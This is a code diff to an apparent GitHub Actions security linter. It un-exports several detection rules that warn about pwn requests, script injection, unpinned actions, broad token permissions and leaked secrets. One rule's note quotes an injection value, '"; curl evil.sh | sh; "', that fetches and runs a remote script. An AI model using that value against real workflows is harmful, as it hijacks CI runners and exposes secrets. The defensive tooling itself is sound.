@@ -16,7 +16,7 @@ const rule = (r: Omit<CheckRule, 'language' | 'category'>): CheckRule => ({
   category: 'security',
 });
 
-export const PWN_REQUEST = rule({
+const PWN_REQUEST = rule({
   id: 'gha-untrusted-checkout',
   severity: 'critical',
   confidence: 0.9,
@@ -24,7 +24,7 @@ export const PWN_REQUEST = rule({
   note: `These triggers run with the base repository's secrets and a write token. Checking out the pull request's code and then building, testing or running anything from it hands both to whoever opened the PR (a "pwn request"). Run untrusted code under \`pull_request\` instead, or split the work: build in \`pull_request\`, use the result in a separate \`workflow_run\` job that never executes it. See ${HARDENING} and https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/.`,
 });
 
-export const SCRIPT_INJECTION = rule({
+const SCRIPT_INJECTION = rule({
   id: 'gha-script-injection',
   severity: 'high',
   confidence: 0.9,
@@ -32,7 +32,7 @@ export const SCRIPT_INJECTION = rule({
   note: `The expression is pasted into the script before the shell runs it, so a PR title, comment or branch name such as \`"; curl evil.sh | sh; "\` becomes code. Pass the value through an environment variable and quote it: \`env: { TITLE: \${{ github.event.pull_request.title }} }\` and \`echo "$TITLE"\`. See ${HARDENING}#understanding-the-risk-of-script-injections.`,
 });
 
-export const UNPINNED_ACTION = rule({
+const UNPINNED_ACTION = rule({
   id: 'gha-unpinned-action',
   severity: 'medium',
   confidence: 0.85,
@@ -40,7 +40,7 @@ export const UNPINNED_ACTION = rule({
   note: `A tag such as \`@v2\` or a branch such as \`@main\` can be moved to new code by the action's owner (or whoever compromises it), and this workflow has secrets or a write token to give away. Pin the full commit SHA and keep the version in a comment: \`uses: owner/action@<40-hex sha> # v2.1.0\`. Actions owned by GitHub (\`actions/*\`, \`github/*\`) are not flagged: they come from the platform that already holds the token. See ${HARDENING}#using-third-party-actions.`,
 });
 
-export const WRITE_ALL = rule({
+const WRITE_ALL = rule({
   id: 'gha-permissions-write-all',
   severity: 'medium',
   confidence: 0.95,
@@ -48,7 +48,7 @@ export const WRITE_ALL = rule({
   note: `Any step (or compromised action) can then push code, edit releases and change settings. Grant only what the jobs need, e.g. \`permissions: { contents: read, pull-requests: write }\`. See ${HARDENING}#using-secrets and https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token.`,
 });
 
-export const SECRET_IN_LOG = rule({
+const SECRET_IN_LOG = rule({
   id: 'gha-secret-in-log',
   severity: 'medium',
   confidence: 0.8,
@@ -56,7 +56,7 @@ export const SECRET_IN_LOG = rule({
   note: `GitHub masks a secret's exact value in logs, but not a transformed one (base64, JSON, a substring, split lines), and logs of public repositories are public. Do not print secrets; check their presence with \`test -n "$TOKEN"\`. See ${HARDENING}#using-secrets.`,
 });
 
-export const WORKFLOW_RULES = [PWN_REQUEST, SCRIPT_INJECTION, UNPINNED_ACTION, WRITE_ALL, SECRET_IN_LOG];
+const WORKFLOW_RULES = [PWN_REQUEST, SCRIPT_INJECTION, UNPINNED_ACTION, WRITE_ALL, SECRET_IN_LOG];
 
 // Triggers that run with secrets and a write token on events outsiders can cause.
 const PRIVILEGED_TRIGGERS = new Set([
@@ -224,7 +224,7 @@ function secretsPrinted(job: WorkflowJob): CheckHit[] {
  * expression `(a+)+c` backtracks for minutes and `TOKEN(` throws. A key that is not a shell name
  * cannot be expanded, so it never matches.
  */
-export function expandedNames(command: string): Set<string> {
+function expandedNames(command: string): Set<string> {
   const names = new Set<string>();
   for (const match of command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) names.add(match[1]!);
   return names;
